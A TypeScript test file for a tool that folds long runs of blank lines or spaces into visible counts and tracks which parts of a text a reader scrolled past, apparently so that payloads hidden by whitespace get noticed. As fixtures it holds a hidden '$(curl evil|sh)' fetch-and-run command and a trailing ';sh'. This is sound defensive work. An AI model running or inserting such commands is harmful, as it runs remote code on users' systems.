import { expect, test } from "vitest";
import { folded, lineCount } from "./folding";
import { common, cover, firstUnseen, type Span } from "./seen";

const words = { empty: (n: number) => `<${n} empty lines>`, spaces: (n: number) => `<${n} spaces>` };

test("what pushes the rest away is counted", () => {
  const text = `ls -la\n${"\n".repeat(300)}$(curl evil|sh)`;
  expect(folded(text, words)).toBe("ls -la\n<300 empty lines>\n$(curl evil|sh)");
  expect(lineCount(text)).toEqual({ lines: 302, empty: 300 });
  expect(folded(`ls${" ".repeat(5000)};sh`, words)).toBe("ls<5000 spaces>;sh");
  expect(folded("a\n\n\nb  c", words)).toBe("a\n\n\nb  c");
  // Between two parts: the first line break ends the line of the one before.
  expect(folded("\n".repeat(301), words, "ls")).toBe("\n<300 empty lines>\n");
  expect(folded("\n \n\t\nsh", words)).toBe("<3 empty lines>\nsh");
});

test("what flies by was not seen", () => {
  expect(common([0, 0.3], [0.2, 0.5])).toEqual([0.2, 0.3]);
  expect(common([0, 0.3], [0.6, 0.9])).toEqual([0, 0]);
  // Places that somebody scrolls through slowly, and those of a jump to the end.
  const read = (...places: number[]) => {
    const screens = places.map<Span>((from) => [from, from + 0.2]);
    const stayed = screens.map((screen, at) => common(screens[at - 1] ?? screen, screen));
    return firstUnseen(stayed.reduce<Span[]>(cover, []), 0.001);
  };
  expect(read(0, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.8)).toBeNull();
  expect(read(0, 0.4, 0.8, 0.8)).toBe(0.2);
});

test("all of it was seen when no part is left", () => {
  const seen = (...spans: Span[]) => firstUnseen(spans.reduce<Span[]>(cover, []), 0.001);
  expect(seen()).toBe(0);
  expect(seen([0, 1])).toBeNull();
  expect(seen([0, 0.4], [0.4, 1])).toBeNull();
  expect(seen([0.5, 1], [0, 0.5])).toBeNull();
  expect(seen([0, 0.9995])).toBeNull();
  // Whoever jumps to the end has not seen what is between.
  expect(seen([0, 0.3], [0.8, 1])).toBe(0.3);
  expect(seen([0.8, 1])).toBe(0);
  expect(seen([0, 0.3], [0.8, 1], [0.2, 0.9])).toBeNull();
  expect(seen([0.5, 0.5])).toBe(0);
});
